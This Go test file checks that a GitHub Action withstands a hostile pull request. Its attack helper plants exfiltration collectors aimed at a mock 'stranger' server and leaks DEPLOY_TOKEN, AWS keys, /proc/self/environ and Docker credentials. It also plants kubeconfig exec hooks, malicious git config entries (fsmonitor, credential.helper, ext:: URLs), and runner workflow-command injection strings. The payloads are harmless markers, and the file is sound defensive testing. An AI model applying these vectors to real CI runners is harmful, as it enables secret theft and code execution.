package main

import (
	"encoding/base64"
	"maps"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestActionUnderAttack runs the steps of the action over a pull request that
// tries to have something read, run, sent or hidden.
func TestActionUnderAttack(t *testing.T) {
	r := newRunner(t)
	r.attack()
	out := r.run(map[string]string{"inputs.untrusted": "auto"})

	if code := r.codes["verdict"]; code == 0 {
		t.Errorf("hidden: the verdict passes\n%s", out)
	}
	if ran := r.markers(); len(ran) > 0 {
		t.Errorf("run: %v", ran)
	}
	if n := r.asked.Load(); n > 0 {
		t.Errorf("sent: the stranger was asked %d times", n)
	}
	r.holdsNoSecret(out)
	holdsNoCommand(t, out)

	comment := r.file(filepath.Join(r.record, "body"))
	for _, want := range []string{"configuration is that of", "Not obeyed, as it differs from the base", "parity.yaml", "qa", "link leads out of the repository"} {
		if !strings.Contains(comment, want) {
			t.Errorf("the comment does not say %q:\n%s", want, comment)
		}
	}
	// Of two comments that begin like one of ours, the one that is ours changes.
	if calls := r.file(filepath.Join(r.record, "calls")); !strings.Contains(calls, "PATCH repos/acme/shop/issues/comments/22 ") || strings.Contains(calls, "comments/11 ") {
		t.Errorf("the calls of gh:\n%s", calls)
	}
	if strings.Contains(r.file(r.summary), "could not comment") {
		t.Error("the summary says that there is no comment")
	}
}

// TestActionOfAFork holds that a token that may only read is no failure.
func TestActionOfAFork(t *testing.T) {
	r := newRunner(t)
	r.env["GH_DENIES"] = "1"
	out := r.run(map[string]string{"inputs.untrusted": "auto"})
	if r.codes["comment"] != 0 || r.codes["verdict"] != 0 {
		t.Errorf("%v\n%s", r.codes, out)
	}
	if s := r.file(r.summary); !strings.Contains(s, "could not comment") || !strings.Contains(s, "parity holds") && !strings.Contains(s, "Parity") {
		t.Errorf("the summary:\n%s", s)
	}
}

// TestActionTrusted holds that the attack is one: where the pull request is
// obeyed, its command runs. And that its credentials still go nowhere.
func TestActionTrusted(t *testing.T) {
	r := newRunner(t)
	r.attack()
	out := r.run(map[string]string{"inputs.untrusted": "false"})
	if ran := r.markers(); !slices.Contains(ran, "exec") || slices.Contains(ran, "kubeconfig") || slices.Contains(ran, "bare") {
		t.Errorf("the command of parity.yaml did not run, so the attack tries nothing:\n%s", out)
	}
	if n := r.asked.Load(); n > 0 {
		t.Errorf("sent: the stranger was asked %d times", n)
	}
	holdsNoCommand(t, out)
}

// TestActionOnTarget holds that the action refuses the event whose jobs have
// secrets, unless it is told to.
func TestActionOnTarget(t *testing.T) {
	r := newRunner(t)
	out := r.run(map[string]string{"inputs.untrusted": "auto", "github.event_name": "pull_request_target"})
	if r.codes["trust"] != 2 || !strings.Contains(out, "pull_request_target") {
		t.Errorf("%v\n%s", r.codes, out)
	}
	if _, ran := r.codes["check"]; ran {
		t.Error("it ran all the same")
	}
}

// TestActionWithoutBase holds that a base that cannot be had is no pass.
func TestActionWithoutBase(t *testing.T) {
	r := newRunner(t)
	out := r.run(map[string]string{"inputs.untrusted": "auto", "inputs.base || github.event.pull_request.base.sha": strings.Repeat("0", 39) + "1"})
	if r.codes["verdict"] != 2 || !strings.Contains(out, "cannot be read") || !strings.Contains(r.file(r.summary), "could not check") {
		t.Errorf("%v\n%s", r.codes, out)
	}
}

// attack commits what a stranger can put into a pull request, checks it out as
// the runner does, and leaves in the checkout's git directory what no pull
// request can put there.
func (r *runner) attack() {
	t := r.t
	mark := func(name string) string { return "touch " + filepath.Join(r.marks, name) }
	write := func(name, text string) { r.write(filepath.Join(r.source, filepath.FromSlash(name)), text) }
	link := func(name, to string) {
		full := filepath.Join(r.source, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(to, full); err != nil {
			t.Fatal(err)
		}
	}
	write("deploy/parity.yaml", `version: 1
environments:
  - name: staging
    sources:
      - {path: staging}
      - {collector: exec, command: [touch, `+filepath.Join(r.marks, "exec")+`], format: yaml, env: [DEPLOY_TOKEN]}
      - {collector: loki, url: "`+r.stranger+`", tokenEnv: DEPLOY_TOKEN}
      - {collector: prometheus, url: "`+r.stranger+`", headersEnv: {X-Steal: AWS_SECRET_ACCESS_KEY}}
      - {collector: loki, url: "`+r.stranger+`", tokenFile: "`+filepath.Join(r.home, ".docker/config.json")+`"}
      - {collector: kubernetes, kubeconfig: kubeconfig, context: c}
      - {path: "../../home/.docker/config.json"}
  - name: production
    sources: [{path: production}]
gate: {mode: report-only}
allowOutside: true
secrets: {keyEnv: DEPLOY_KEY}
`)
	write("deploy/kubeconfig", `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "`+r.stranger+`"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, "`+mark("kubeconfig")+`"], interactiveMode: Never}}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
`)
	write("deploy/staging/web.yaml", configMap("web", `{A: "2", poison: "password:|\n ", "::error::key": "\n::error title=PWN::injected\n##[error]x"}`))
	write("deploy/staging/::add-mask::x.yaml", configMap("'::warning::name'", `{B: "::stop-commands::x\r\n::set-output name=exit-code::0"}`))
	write("deploy/staging/annotated.yaml", "# ::debug::x\napiVersion: v1\nkind: '::error::kind'\nmetadata: {name: x, labels: {a: \"##[set-output name=exit-code;]0\"}}\n")
	write("deploy/qa/web.yaml", configMap("web", `{A: "2"}`))
	link("deploy/staging/environ.yaml", "/proc/self/environ")
	link("deploy/staging/docker.yaml", filepath.Join(r.home, ".docker", "config.json"))
	link("deploy/charts/staging/env", "/proc/self/environ")
	link("deploy/charts/staging/gitconfig", "../../../.git/config")
	link("deploy/charts/staging/docker", filepath.Join(r.home, ".docker", "config.json"))
	write("deploy/charts/staging/templates/steal.yaml", `apiVersion: v1
kind: ConfigMap
metadata: {name: stolen}
data:
  env: {{ .Files.Get "env" | splitList "" | join "_" | quote }}
  git: {{ .Files.Get "gitconfig" | splitList "" | join "_" | quote }}
  docker: {{ .Files.Get "docker" | b64enc | quote }}
`)
	// A directory that looks like a repository of its own.
	write("deploy/HEAD", "ref: refs/heads/main\n")
	write("deploy/config", "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "+mark("bare")+"\n")
	write("deploy/objects/keep", "")
	write("deploy/refs/keep", "")
	write("deploy/.parity/key", strings.Repeat("k", 32))
	r.git(r.source, "add", "-A", "-f")
	r.git(r.source, "commit", "-qm", "::error::pull request")
	r.publish()
	r.checkout()

	for _, kv := range [][2]string{
		{"core.repositoryformatversion", "1"},
		{"extensions.partialClone", "origin"},
		{"remote.origin.promisor", "true"},
		{"remote.origin.uploadpack", mark("uploadpack") + "; git-upload-pack"},
		{"core.fsmonitor", mark("fsmonitor")},
		{"core.hooksPath", filepath.Join(r.home, "hooks")},
		{"core.sshCommand", mark("ssh")},
		{"core.gitProxy", mark("proxy")},
		{"core.pager", mark("pager")},
		{"core.askPass", mark("askpass")},
		{"core.alternateRefsCommand", mark("alternates")},
		{"credential.helper", "!" + mark("credential")},
		{"diff.external", mark("diff")},
		{"filter.x.clean", mark("clean")},
		{"filter.x.smudge", mark("smudge")},
		{"alias.cat-file", "!" + mark("alias")},
		{"url.ext::sh -c touch% " + filepath.Join(r.marks, "url") + "#.insteadOf", r.env["GITHUB_SERVER_URL"]},
		{"protocol.ext.allow", "always"},
		{"http." + r.env["GITHUB_SERVER_URL"] + "/.extraheader", "AUTHORIZATION: basic " + r.secrets["CHECKOUT"]},
	} {
		r.git(r.work, "config", kv[0], kv[1])
	}
	r.write(filepath.Join(r.home, "hooks", "post-checkout"), "#!/bin/sh\n"+mark("hook")+"\n")
	for _, name := range []string{"deploy/staging/pipe.yaml", "deploy/qa/pipe.yaml"} {
		pipe(t, filepath.Join(r.work, filepath.FromSlash(name)))
	}
}

// holdsNoSecret looks for every secret in all that the run has left: as it is,
// taken apart, and encoded.
func (r *runner) holdsNoSecret(out string) {
	r.t.Helper()
	texts := map[string]string{"the output": out}
	for _, dir := range []string{r.temp, r.record} {
		err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() || path == r.binary {
				return err
			}
			data, err := os.ReadFile(path)
			texts[path] = string(data)
			return err
		})
		if err != nil {
			r.t.Fatal(err)
		}
	}
	for name, secret := range r.secrets {
		spread := strings.Join(strings.Split(secret, ""), "_")
		forms := []string{secret, spread, base64.StdEncoding.EncodeToString([]byte(secret))[:24]}
		for where, text := range texts {
			bare := strings.Map(func(c rune) rune {
				if c == ' ' || c == '\n' || c == '│' {
					return -1
				}
				return c
			}, text)
			for _, form := range forms {
				if strings.Contains(text, form) || strings.Contains(bare, form) {
					r.t.Errorf("read: %s holds the secret %s", where, name)
				}
			}
		}
	}
}

// holdsNoCommand reads the output as a runner does: no line of it is a command
// but those of the action, which stop commands while anything else is printed.
func holdsNoCommand(t *testing.T, out string) {
	t.Helper()
	token := ""
	stopped := 0
	for line := range strings.Lines(out) {
		trimmed := strings.TrimSpace(line)
		switch {
		case token == "" && strings.HasPrefix(trimmed, "::stop-commands::"):
			token = strings.TrimPrefix(trimmed, "::stop-commands::")
			if stopped++; len(token) != 32 {
				t.Errorf("the token %q can be guessed", token)
			}
		case token != "" && trimmed == "::"+token+"::":
			token = ""
		case strings.HasPrefix(trimmed, "::"), strings.Contains(line, "##["):
			t.Errorf("a line is a command: %q", line)
		}
	}
	if token != "" || stopped == 0 {
		t.Errorf("commands are stopped %d times and not let again after %q", stopped, token)
	}
}

func configMap(name, data string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: " + name + "}\ndata: " + data + "\n"
}

// markers are the programs that ran.
func (r *runner) markers() []string {
	entries, err := os.ReadDir(r.marks)
	if err != nil {
		r.t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	return names
}

// steal is what the stranger's server does: it takes whatever it is sent.
func (r *runner) steal(w http.ResponseWriter, _ *http.Request) {
	r.asked.Add(1)
	_, _ = w.Write([]byte("{}"))
}

func pipe(t *testing.T, name string) {
	t.Helper()
	if out, err := exec.Command("mkfifo", name).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}

func copied(m map[string]string, over map[string]string) map[string]string {
	out := maps.Clone(m)
	maps.Copy(out, over)
	return out
}
